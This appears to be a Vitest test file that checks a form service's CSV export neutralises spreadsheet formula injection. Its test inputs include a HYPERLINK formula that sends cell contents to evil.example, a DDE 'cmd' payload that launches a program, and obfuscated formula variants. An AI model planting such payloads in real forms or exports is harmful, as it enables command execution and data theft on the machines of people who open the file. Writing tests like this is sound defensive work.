import { expect, it } from 'vitest'
import { openFormSession, submitApplication } from '../support/applicant.ts'
import { parseCsv } from '../support/csv.ts'
import { makeCompany, makeLink, signIn } from '../support/factories.ts'
import { startTestServer, TEST_ADMIN } from '../support/server.ts'

const { url, services } = await startTestServer()

const FORMULAS = {
  legalName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  dbaName: "=cmd|'/C calc'!A0",
  useOfFunds: '@SUM(1+1)*cmd',
  nature: '+1+1',
  city: '-2+3+cmd',
  address: '\t=1+1',
  reference1: '   =1+1',
  reference2: '＝1+1',
  partner1Name: '\r\n=1+1',
  partner1Title: '"=1+1',
  landlordContactNameNumber1: '\u00a0@x',
}

it('no cell of an export is a formula, whoever wrote it', async () => {
  const company = await makeCompany(services, { nameOut: '=1+company' })
  const link = await makeLink(services, company.id, { userName: '@broker' })
  const session = await openFormSession(url, link.slug)
  const { status, body } = await submitApplication(url, session, FORMULAS, link.slug)
  expect([status, body.error]).toEqual([200, undefined])
  const token = await signIn(url, TEST_ADMIN.email)
  const answer = await fetch(`${url}/api/form/export`, { headers: { authorization: `Bearer ${token}` } })
  const [, cells = []] = parseCsv(await answer.text())

  const meant = Object.values(FORMULAS).map((text) => text.replace(/\s+/g, ''))
  for (const text of meant) {
    expect(cells.some((cell) => cell.replace(/\s+/g, '').replace(/^'/, '') === text)).toBe(true)
  }
  expect(cells.slice(0, 2)).toEqual(["'=1+company", "'@broker"])
  expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))).toEqual([])
  expect(await services.db.system('test').write((client) => client.formSubmission.count())).toBe(1)
})
